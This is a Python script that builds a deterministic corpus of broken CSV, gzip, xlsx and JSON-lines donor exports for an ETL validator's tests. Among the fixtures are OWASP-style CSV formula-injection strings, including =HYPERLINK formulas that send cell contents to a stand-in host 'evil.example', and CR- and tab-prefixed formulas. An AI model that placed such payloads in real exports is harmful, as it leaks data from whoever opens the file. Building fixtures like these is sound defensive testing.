"""Write the corpus of broken exports in `tests/bad_inputs/` (issue 7, section 2).

Each file is one way a donor export arrives broken: random bytes, truncated gzip, the wrong
encoding, ragged rows, duplicate or NUL-laden headers, formula-injection strings, no rows at all,
a workbook that is not one, JSON that is not JSON lines, odd line endings, unbalanced quotes.
`tests/test_bad_inputs.py` runs `kindful-etl validate` on every one of them and checks that each
ends with a one-line error (exit 2) or with every record accounted for.

The output is byte-for-byte deterministic (seeded RNGs, gzip mtime 0, fixed zip timestamps), so
re-running the script shows a reviewable diff. Files too big to commit (a 1 MB field, lines
longer than the reader's 64 KiB sniffing head) are not written here: `big_inputs()` builds them
and the test writes them into its temporary folder.

Usage: python scripts/make_bad_inputs.py [OUT_DIR]   (default: tests/bad_inputs/)
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
import sys
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "tests" / "bad_inputs"
SEED = 20240707
ZIP_TIME = (2024, 3, 1, 0, 0, 0)

# A small, valid contact export, the base most broken files are made from.
CONTACT_HEADER = "id,first_name,last_name,email,city,state,country"
CONTACT_ROWS = [
    "c1,José,Example,jose@example.org,Nashville,Tennessee,USA",
    "c2,Zoë,Sample,zoe@example.org,Brooklyn,NY,us",
    "c3,Ada,Specimen,ada@example.org,Austin,tx,United States",
    "c4,Grace,Tester,grace@example.org,Portland,OR,",
]
CONTACT_CSV = "\n".join([CONTACT_HEADER, *CONTACT_ROWS]) + "\n"

GIFT_HEADER = "id,first_name,last_name,email,amount_in_cents,transaction_time,fund"


def _rng(name: str) -> random.Random:
    """One RNG per file, so editing one file never reshuffles the others."""
    return random.Random(f"{SEED}:{name}")


def _gzip(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=9, mtime=0)


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=ZIP_TIME), data)
    return buffer.getvalue()


def _random_bytes(name: str, size: int) -> bytes:
    data = _rng(name).randbytes(size)
    # Never the gzip or zip magic by accident: these files are noise, not containers.
    return b"x" + data[1:] if data[:2] in (b"\x1f\x8b", b"PK") else data


def _formula_rows() -> str:
    """Formula-injection strings as names, emails and amounts (OWASP CSV injection)."""
    rows = [
        GIFT_HEADER,
        'g1,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",Example,'
        "a1@example.org,5000,1444762572,General",
        "g2,+1,-2,@SUM(1+1)@example.org,+1,1444762572,General",
        "g3,Ada,Sample,-2@example.org,-2,1444762572,@SUM(A1:A9)",
        'g4,"\t=1+2",Specimen,"\t=cmd@example.org","\t-3",1444762572,General',
        "g5,=1+2,@Demo,=a@example.org,=5000,=NOW(),=General",
        "g6,Grace,Fixture,grace@example.org,2500,1444762572,General",
    ]
    return "\n".join(rows) + "\n"


def _formula_cr_rows() -> str:
    """CR-prefixed formulas: a spreadsheet drops the CR and runs the rest."""
    rows = [
        GIFT_HEADER,
        'r1,"\r=1+2",Tester,"\r+cmd@example.org","\r=5",1444762572,General',
        "r2,Grace,Fixture,grace@example.org,2500,1444762572,General",
    ]
    return "\n".join(rows) + "\n"


def small_inputs() -> dict[str, bytes]:
    """Every committed corpus file: name -> exact bytes."""
    contact = CONTACT_CSV.encode("utf-8")
    lines = CONTACT_CSV.splitlines()
    files: dict[str, bytes] = {
        # noise
        "random_bytes.csv": _random_bytes("random_bytes.csv", 4096),
        "random_bytes.csv.gz": _random_bytes("random_bytes.csv.gz", 4096),
        "random_after_gzip_magic.csv.gz": b"\x1f\x8b" + _random_bytes("gzmagic", 4094),
        # containers
        "truncated.csv.gz": _gzip(contact * 40)[:150],
        "gzip_trailing_garbage.csv.gz": _gzip(contact) + b"\x00garbage after the gzip member",
        "gzip_two_members.csv.gz": _gzip("\n".join(lines[:3]).encode() + b"\n")
        + _gzip("\n".join(lines[3:]).encode() + b"\n"),
        "renamed_csv.xlsx": contact,
        "not_xlsx.zip": _zip({"contacts.csv": contact, "readme.txt": b"not a workbook\n"}),
        "empty_zip.xlsx": _zip({}),
        # encodings
        "utf16le_no_bom.csv": CONTACT_CSV.encode("utf-16-le"),
        "utf16be_no_bom.csv": CONTACT_CSV.encode("utf-16-be"),
        "cp1252_undeclared.csv": CONTACT_CSV.replace("Zoë", "Zoë’s").encode("cp1252"),
        "utf8_bom_but_cp1252.csv": b"\xef\xbb\xbf" + CONTACT_CSV.encode("cp1252"),
        "latin1_c1_bytes.csv": CONTACT_CSV.replace("Ada", "Ad\x81a").encode("latin-1"),
        "utf8_then_cp1252.csv": "\n".join(lines[:3]).encode("utf-8")
        + b"\n"
        + "\n".join(lines[3:]).replace("Grace", "Grâce").encode("cp1252")
        + b"\n",
        "cp1252_then_utf8.csv": "\n".join(lines[:2]).encode("cp1252")
        + b"\n"
        + "\n".join(lines[2:]).replace("Ada", "Adã").encode("utf-8")
        + b"\n",
        "shift_jis.csv": (
            "名前,姓,メール\n太郎,山田,taro@example.jp\n花子,鈴木,hanako@example.jp\n"
        ).encode("shift_jis"),
        "shift_jis_ascii_header.csv": (
            "first_name,last_name,email\n太郎,山田,taro@example.jp\n花子,鈴木,hanako@example.jp\n"
        ).encode("shift_jis"),
        # shape
        "ragged_more_fields.csv": "\n".join(
            [*lines[:3], lines[3] + ",surplus,fields", *lines[4:]]
        ).encode()
        + b"\n",
        "ragged_fewer_fields.csv": "\n".join(
            [lines[0], lines[1], "c2,Zoë,Sample", "c3", lines[4]]
        ).encode()
        + b"\n",
        "duplicate_headers.csv": CONTACT_CSV.replace("city", "first_name", 1).encode(),
        "duplicate_headers_by_case.csv": CONTACT_CSV.replace("city", "First_Name", 1).encode(),
        "header_only.csv": (CONTACT_HEADER + "\n").encode(),
        "header_only_no_newline.csv": CONTACT_HEADER.encode(),
        "header_of_commas.csv": b",,,,,,\nc1,Ada,Example,a@example.org,x,y,z\n",
        "empty.csv": b"",
        "whitespace_only.csv": b"  \n\t\n   \r\n \n",
        "bom_only.csv": b"\xef\xbb\xbf",
        "utf16_bom_only.csv": b"\xff\xfe",
        "blank_lines.csv": ("\n\n" + "\n\n".join(lines) + "\n\n\n").encode(),
        # bytes and characters inside cells
        "nul_in_field.csv": CONTACT_CSV.replace("Ada", "A\x00da").replace("c4", "c\x004").encode(),
        "nul_in_header.csv": CONTACT_CSV.replace("first_name", "first\x00_name").encode(),
        "nul_only_header_cell.csv": CONTACT_CSV.replace("city", "\x00").encode(),
        "control_chars.csv": CONTACT_CSV.replace("Ada", "A\x01\x1b[31md\x7fa\x85").encode(),
        "formula_injection.csv": _formula_rows().encode(),
        "formula_injection_cr.csv": _formula_cr_rows().encode(),
        # JSON keeps a CR where a CSV reader makes it a line break
        "formula_injection_cr.jsonl": "".join(
            json.dumps(dict(zip(GIFT_HEADER.split(","), row, strict=True))) + "\n"
            for row in csv.reader(io.StringIO(_formula_cr_rows(), newline=""))
            if row[0] != "id"
        ).encode(),
        "formula_injection_headers.csv": (
            CONTACT_CSV.replace("city", '=HYPERLINK("http://evil.example")', 1)
            .replace("state", "@SUM(A1)", 1)
            .replace("jose@example.org", "not an email", 1)
            .replace("Specimen", "", 1)  # one rejected record, so rejects.csv has rows
        ).encode(),
        # line endings and quoting
        "crlf.csv": CONTACT_CSV.replace("\n", "\r\n").encode(),
        "cr_only.csv": CONTACT_CSV.replace("\n", "\r").encode(),
        # old-Mac line ends, a blank line, then a record whose first field is empty
        "cr_only_blank_line.csv": "\r".join(
            [lines[0], lines[1], "", lines[2].removeprefix("c2"), " ", lines[3].removeprefix("c3")]
        ).encode()
        + b"\r",
        "mixed_line_endings.csv": (
            lines[0] + "\r\n" + lines[1] + "\r" + lines[2] + "\n" + lines[3] + "\r\n" + lines[4]
        ).encode(),
        "quoted_newlines.csv": (
            CONTACT_HEADER + "\n"
            'c1,"Jo\nsé","Ex\r\nample",jose@example.org,"Nash,ville",TN,USA\n'
            'c2,"Zoë ""Z"" ",Sample,zoe@example.org,"Brook\rlyn",NY,us\n' + lines[3] + "\n"
        ).encode(),
        "unclosed_quote.csv": (
            "\n".join(
                [lines[0], lines[1], 'c2,"Zoë,Sample,zoe@example.org,Brooklyn,NY,us', *lines[3:]]
            )
            + "\n"
        ).encode(),
        "unclosed_quote_last_line.csv": (
            "\n".join([*lines[:4], 'c4,Grace,Tester,"grace@example.org,Portland,OR,']) + "\n"
        ).encode(),
        "semicolon_delimited.csv": CONTACT_CSV.replace(",", ";").encode("cp1252"),
        # JSON
        "one_bad_line.jsonl": (
            json.dumps({"first_name": "Ada", "last_name": "Example"})
            + "\n"
            + '{"first_name": "Zoë", "last_name": "Sample",}\n'
            + json.dumps({"first_name": "Grace", "last_name": "Tester"})
            + "\n"
        ).encode(),
        "array.json": json.dumps(
            [{"first_name": "Ada", "last_name": "Example"}, {"first_name": "Zoë"}]
        ).encode(),
        "array_named.jsonl": b'[{"first_name": "Ada", "last_name": "Example"}]\n',
        "scalar_lines.jsonl": b'{"first_name": "Ada", "last_name": "Example"}\n42\n',
        "huge_number.jsonl": b'{"first_name": "Ada", "last_name": "Example", "amount": '
        + b"9" * 5000
        + b"}\n",
        "deep_nesting.jsonl": b'{"first_name": "Ada", "tags": ' + b"[" * 50_000 + b"}\n",
        "empty_objects.jsonl": b"{}\n{}\n{}\n",
        "nan_and_infinity.jsonl": "".join(
            f'{{"first_name": "{first}", "last_name": "{last}", "amount_in_cents": {amount}, '
            '"transaction_time": 1444762572}\n'
            for first, last, amount in [
                ("Ada", "Example", "NaN"),
                ("Zo\\u00eb", "Sample", "Infinity"),
                ("Grace", "Tester", "1e309"),
            ]
        ).encode(),
        # workbooks that are not
        "random_bytes.xlsx": _random_bytes("random_bytes.xlsx", 2048),
        "truncated.xlsx": _zip({"[Content_Types].xml": b"<Types/>" * 200})[:120],
    }
    return files


def big_inputs() -> dict[str, bytes]:
    """Files too big to commit: built on demand (by the test, into its temporary folder)."""
    lines = CONTACT_CSV.splitlines()
    huge = "x" * 1_048_576
    # a header line of ~70 KB, longer than the reader's 64 KiB sniffing head, in fewer columns
    # than its limit (KINDFUL_ETL_MAX_COLUMNS, 2000)
    width = 1800
    wide_header = (
        CONTACT_HEADER
        + ","
        + ",".join(f"extra_column_with_a_longer_name_{i:05d}" for i in range(width))
    )
    wide_row = lines[1] + "," + ",".join(str(i) for i in range(width))
    long_note = "note " * 80_000  # a 400 KB quoted line, longer than one 256 KiB read block
    return {
        "one_mb_field.csv": "\n".join(
            [lines[0], lines[1], lines[2].replace("Zoë", huge), *lines[3:]]
        ).encode()
        + b"\n",
        "one_mb_field_quoted_delimiters.csv": "\n".join(
            [lines[0], f'c0,"{huge[:-3]},\n;",Example,a@example.org,x,TN,USA', *lines[1:]]
        ).encode()
        + b"\n",
        "long_lines.csv": "\n".join([wide_header, wide_row, wide_row.replace("c1", "c2")]).encode()
        + b"\n",
        "long_quoted_line.csv": (
            CONTACT_HEADER
            + ",custom_note\n"
            + "\n".join(f'{row},"{long_note}"' for row in lines[1:])
            + "\n"
        ).encode(),
    }


def main(argv: list[str]) -> int:
    out = Path(argv[1]) if len(argv) > 1 else OUT
    out.mkdir(parents=True, exist_ok=True)
    for name, data in sorted(small_inputs().items()):
        (out / name).write_bytes(data)
    print(f"wrote {len(small_inputs())} files to {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
